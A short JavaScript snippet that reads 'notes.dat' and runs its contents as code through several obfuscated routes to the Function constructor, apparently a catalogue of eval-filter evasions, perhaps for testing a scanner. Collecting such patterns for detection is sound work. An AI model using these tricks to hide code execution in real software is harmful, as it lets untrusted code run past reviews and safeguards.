const text = require('fs').readFileSync('notes.dat', 'utf8');
[].constructor.constructor(text)();
(() => {}).constructor(text)();
''['constructor']['con' + 'structor'](text)();
[]['filter']['constructor'](text)();
Object.getPrototypeOf(async () => {}).constructor(text)();
new Function('a', text)(1);
Reflect.construct(Function, [text])();
Function('return this')();
